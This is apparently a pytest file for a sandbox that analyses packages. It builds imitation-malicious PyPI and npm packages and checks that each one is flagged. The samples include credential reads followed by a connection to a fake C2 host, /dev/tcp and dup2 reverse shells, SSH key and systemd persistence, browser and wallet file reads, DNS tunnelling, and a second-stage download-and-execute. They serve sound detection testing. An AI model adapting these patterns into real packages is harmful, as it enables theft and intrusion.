"""Imitation-malicious packages, harmless by construction, judged through the real sandbox.

Each package does one family of what malware does, against the fake network and the sandbox's
own home only (hosts under .example, commands like `id`), and must be judged suspicious or
worse with the expected rule among the findings. Built from source in tmp_path (tests/builders.py).
"""

from __future__ import annotations

import json
import subprocess
import sys
import textwrap
from collections.abc import Callable
from pathlib import Path

import pytest

from builders import make_npm, make_sdist, make_wheel, suspicious_npm, suspicious_sdist
from osptrack.run import AnalyzeOptions, analyze
from osptrack.target import parse_target

pytestmark = [pytest.mark.sandbox, pytest.mark.slow]

C2 = "c2.osptrack-test.example.com"


def _wheel(code: str) -> Callable[[Path], tuple[str, Path]]:
    """A wheel whose import runs `code` (the import phase)."""

    def build(dest: Path) -> tuple[str, Path]:
        return "pypi", make_wheel(
            dest, "osptrack-imit", "1.0.0", {"osptrack_imit/__init__.py": textwrap.dedent(code)}
        )

    return build


def _sdist(code: str) -> Callable[[Path], tuple[str, Path]]:
    """An sdist whose setup.py runs `code` (the install phase)."""

    def build(dest: Path) -> tuple[str, Path]:
        setup = (
            textwrap.dedent(code)
            + "\nfrom setuptools import setup\nsetup(name='osptrack-imit', version='1.0.0', py_modules=['osptrack_imit'])\n"
        )
        return "pypi", make_sdist(dest, "osptrack-imit", "1.0.0", setup, {"osptrack_imit.py": "VALUE = 1\n"})

    return build


def _npm(script: str) -> Callable[[Path], tuple[str, Path]]:
    """An npm package whose preinstall script runs `script` (the install phase)."""

    def build(dest: Path) -> tuple[str, Path]:
        return "npm", make_npm(
            dest,
            "osptrack-imit",
            "1.0.0",
            {"pre.js": script, "index.js": "module.exports = 1;\n"},
            scripts={"preinstall": "node pre.js"},
        )

    return build


BAIT_THEN_C2 = f"""
import os, socket
try:
    open(os.path.expanduser("~/.aws/credentials")).read()
    s = socket.create_connection(("{C2}", 443), timeout=3)
    s.sendall(b"\\x16\\x03\\x01 opaque")
    s.close()
except OSError:
    pass
"""

DEVTCP = f"""
import subprocess
subprocess.run(["bash", "-c", "exec 3<>/dev/tcp/{C2}/4444 && echo hello >&3"], timeout=10, check=False)
"""

DUP2_SHELL = f"""
import os, socket, subprocess
try:
    s = socket.create_connection(("{C2}", 4444), timeout=3)
    pid = os.fork()
    if pid == 0:
        os.dup2(s.fileno(), 1)
        os.dup2(s.fileno(), 2)
        os.execv("/bin/sh", ["/bin/sh", "-i", "-c", "true"])
    os.waitpid(pid, 0)
except OSError:
    pass
"""

PERSIST = """
import os
home = os.path.expanduser("~")
os.makedirs(os.path.join(home, ".config/systemd/user"), exist_ok=True)
with open(os.path.join(home, ".config/systemd/user/osptrack-imit.service"), "w") as fh:
    fh.write("[Service]\\nExecStart=/bin/true\\n")
os.makedirs(os.path.join(home, ".ssh"), exist_ok=True)
with open(os.path.join(home, ".ssh/authorized_keys"), "a") as fh:
    fh.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOsptrackimitationkeyonly osptrack-test\\n")
"""

METADATA = """
import socket
try:
    socket.create_connection(("169.254.169.254", 80), timeout=2).close()
except OSError:
    pass
"""

ENCODED = """
import subprocess
subprocess.run(["sh", "-c", "echo aWQK | base64 -d | sh"], check=False)
"""

DROPPER = """
import os, stat, subprocess
path = "/tmp/.osptrack-imit/run.sh"
os.makedirs(os.path.dirname(path), exist_ok=True)
with open(path, "w") as fh:
    fh.write("#!/bin/sh\\nid\\n")
os.chmod(path, os.stat(path).st_mode | stat.S_IXUSR)
subprocess.run([path], check=False)
"""

STEALER = """
import os
home = os.path.expanduser("~")
for rel in (".config/google-chrome/Default/Login Data", ".mozilla/firefox/profiles.ini", ".electrum/wallets/default_wallet"):
    try:
        open(os.path.join(home, rel), "rb").read()
    except OSError:
        pass
"""

PROBES = """
import os
home = os.path.expanduser("~")
# none of them exists in the persona's home (~/.docker/config.json does: a read of it is a finding)
for rel in (".azure/accessTokens.json", ".kube/config", ".netrc", ".config/gcloud/credentials.db"):
    try:
        open(os.path.join(home, rel)).read()
    except OSError:
        pass
"""

DNS_TUNNEL = """
import binascii, os, socket
for i in range(10):
    label = binascii.hexlify(os.urandom(10)).decode() + "q" + str(i)
    try:
        socket.getaddrinfo(label + ".t.osptrack-test.example.com", 53)
    except OSError:
        pass
"""

SECOND_STAGE = """
import subprocess, urllib.request
try:
    body = urllib.request.urlopen("http://dl.osptrack-test.example.com/update.sh", timeout=10).read()
    with open("/tmp/.osptrack-imit-update.sh", "wb") as fh:
        fh.write(body)
    subprocess.run(["sh", "/tmp/.osptrack-imit-update.sh"], check=False, timeout=20)
except OSError:
    pass
"""

NPM_FETCH = """
const dns = require("dns");
dns.lookup("cdn.osptrack-test.example.com", 4, () => {});
"""

CASES: list[tuple[str, Callable[[Path], tuple[str, Path]], str, str]] = [
    ("pypi-sdist-exfil", lambda d: ("pypi", suspicious_sdist(d)), "honeytoken-exfiltrated", "malicious"),
    ("npm-preinstall-exfil", lambda d: ("npm", suspicious_npm(d)), "honeytoken-exfiltrated", "malicious"),
    ("wheel-bait-then-c2", _wheel(BAIT_THEN_C2), "bait-read-then-connect", "malicious"),
    ("sdist-devtcp", _sdist(DEVTCP), "reverse-shell-command", "malicious"),
    ("wheel-dup2-shell", _wheel(DUP2_SHELL), "shell-after-connect", "malicious"),
    ("wheel-persistence", _wheel(PERSIST), "persistence-write", "malicious"),
    ("wheel-metadata", _wheel(METADATA), "cloud-metadata-access", "malicious"),
    ("sdist-encoded", _sdist(ENCODED), "encoded-command", "malicious"),
    ("sdist-dropper", _sdist(DROPPER), "dropped-file-executed", "malicious"),
    ("wheel-stealer", _wheel(STEALER), "browser-wallet-read", "malicious"),
    ("wheel-probes", _wheel(PROBES), "sensitive-path-probe", "suspicious"),
    ("wheel-dns-tunnel", _wheel(DNS_TUNNEL), "dns-random-subdomains", "malicious"),
    ("npm-install-fetch", _npm(NPM_FETCH), "install-non-registry-host", "suspicious"),
    ("sdist-second-stage", _sdist(SECOND_STAGE), "second-stage-executed", "malicious"),
]


@pytest.mark.parametrize(("build", "rule", "level"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_imitation_is_judged(
    tmp_path: Path, build: Callable[[Path], tuple[str, Path]], rule: str, level: str
) -> None:
    ecosystem, archive = build(tmp_path)
    outcome = analyze(parse_target(ecosystem, str(archive)), AnalyzeOptions(timeout_s=120), tmp_path / "run")
    verdict = json.loads((outcome.out / "run.json").read_text())["verdict"]
    fired = {f["rule"]: f for f in verdict["findings"]}
    assert rule in fired, ([(f["rule"], f["severity"]) for f in verdict["findings"]], outcome.notable)
    assert verdict["level"] == level, [(f["rule"], f["severity"]) for f in verdict["findings"]]
    evidence = fired[rule]["evidence"]
    assert evidence and all(e["summary"] for e in evidence)
    assert any(e.get("ref") for e in evidence)


def _cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "osptrack.cli", *args], capture_output=True, text=True, timeout=600
    )


def test_fail_on_exit_codes_and_json(tmp_path: Path) -> None:
    evil = suspicious_sdist(tmp_path)
    done = _cli(
        "analyze",
        "pypi",
        str(evil),
        "--out",
        str(tmp_path / "evil"),
        "--fail-on",
        "malicious",
        "--format",
        "json",
    )
    assert done.returncode == 1, done.stderr
    data = json.loads(done.stdout)  # nothing but the JSON on stdout
    assert set(data) == {"summary", "verdict"} and data["verdict"]["level"] == "malicious"
    plain = make_wheel(tmp_path, "osptrack-plain", "1.0.0", {"osptrack_plain/__init__.py": "VALUE = 1\n"})
    ok = _cli("analyze", "pypi", str(plain), "--out", str(tmp_path / "plain"), "--fail-on", "suspicious")
    assert ok.returncode == 0, ok.stdout + ok.stderr
    assert "verdict:" in ok.stdout and "benign" in ok.stdout
    bad = _cli("analyze", "pypi", str(plain), "--out", str(tmp_path / "bad"), "--fail-on", "evil")
    assert bad.returncode == 2 and "--fail-on" in bad.stderr and not (tmp_path / "bad").exists()
